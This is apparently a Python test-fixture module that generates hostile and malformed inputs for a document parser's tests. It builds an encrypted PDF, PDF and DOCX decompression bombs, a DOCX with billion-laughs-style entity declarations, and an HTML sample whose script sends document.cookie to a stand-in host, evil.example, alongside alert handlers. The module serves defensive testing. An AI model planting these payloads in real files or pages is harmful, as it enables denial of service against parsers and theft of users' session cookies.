"""Generators of broken and hostile input files, made in the tests (no binary blobs committed)."""
from __future__ import annotations

import functools
import io
import zipfile
import zlib
from pathlib import Path

DEJAVU = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")


def pdf_from_text(text: str) -> bytes:
    """A PDF with one text line per line of `text` (tabs as four spaces, as a PDF table reads),
    on pages wide enough for the longest line."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont
    from reportlab.pdfgen import canvas

    font = "Helvetica"
    if DEJAVU.exists():
        pdfmetrics.registerFont(TTFont("DejaVu", str(DEJAVU)))
        font = "DejaVu"
    buffer = io.BytesIO()
    width, height, leading = 6000, 800, 10
    pdf = canvas.Canvas(buffer, pagesize=(width, height), invariant=1)
    y = height - 20
    for line in text.split("\n"):
        if y < 20:
            pdf.showPage()
            y = height - 20
        pdf.setFont(font, 8)
        pdf.drawString(10, y, line.replace("\t", "    "))
        y -= leading
    pdf.save()
    return buffer.getvalue()


def docx_from_text(text: str) -> bytes:
    """A DOCX with one paragraph per line of `text` (tabs kept as Word tabs)."""
    import docx

    document = docx.Document()
    for line in text.split("\n"):
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def encrypted_pdf(text: str = "Procedural Note for the Third Informal Thematic Session") -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf_from_text(text))))
    writer.encrypt(user_password="secret", owner_password="owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_with_objects(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


@functools.lru_cache(maxsize=2)
def inflating_pdf(megabytes: int = 300) -> bytes:
    """A valid PDF whose page content stream inflates to `megabytes` MB (about 0.3 MB on disk)."""
    payload = zlib.compress(b"BT /F1 12 Tf 100 700 Td (Inflated) Tj ET "
                            + b" " * (megabytes * 1024 * 1024), 9)
    return _pdf_with_objects([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length " + str(len(payload)).encode() + b"/Filter/FlateDecode>>\nstream\n" + payload
        + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ])


@functools.lru_cache(maxsize=2)
def docx_zip_bomb(megabytes: int = 300) -> bytes:
    """A DOCX-shaped zip whose document.xml inflates to `megabytes` MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            chunk = b" " * (1024 * 1024)
            for _ in range(megabytes):
                part.write(chunk)
    return buffer.getvalue()


def docx_with_entities(padding: int = 0, encoding: str = "utf-8") -> bytes:
    """A real DOCX whose document.xml declares entities (billion-laughs shaped), after a
    comment of `padding` characters, the part written in `encoding` (as its declaration says)."""
    original = docx_from_text("Procedural Note for the Third Informal Thematic Session")
    source = zipfile.ZipFile(io.BytesIO(original))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/document.xml":
                head, _, rest = data.decode("utf-8").partition("?>")
                head = head.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
                comment = f"<!--{'x' * padding}-->" if padding else ""
                data = (head + "?>" + comment + '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
                        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + rest).encode(encoding)
            archive.writestr(info, data)
    return buffer.getvalue()


def pdf_with_wide_rows() -> bytes:
    """A small PDF whose page content stream declares PNG-predictor rows of 10^9 columns: a
    decoder limit that is not a decompression bomb (the stream inflates to 40 bytes)."""
    payload = zlib.compress(b"BT /F1 12 Tf 100 700 Td (Wide) Tj ET", 9)
    return _pdf_with_objects([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length " + str(len(payload)).encode()
        + b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1000000000>>>>\nstream\n"
        + payload + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ])


HTML_WITH_SCRIPTS = """<!doctype html><html><head><meta charset="utf-8"><title>Note</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{display:none}</style></head><body onload="alert(1)">
<p>Procedural Note for the Fourth Informal Thematic Session: “Contributions of migrants”</p>
<p><b>New York, 24-25 July 2017</b><br>United Nations Headquarters</p>
<img src=x onerror="alert(2)"><p>The limit for interventions from the floor is three minutes.</p>
<table><tr><td>17.50-18.00</td><td>Closing remarks by the co-facilitators</td></tr></table>
</body></html>"""
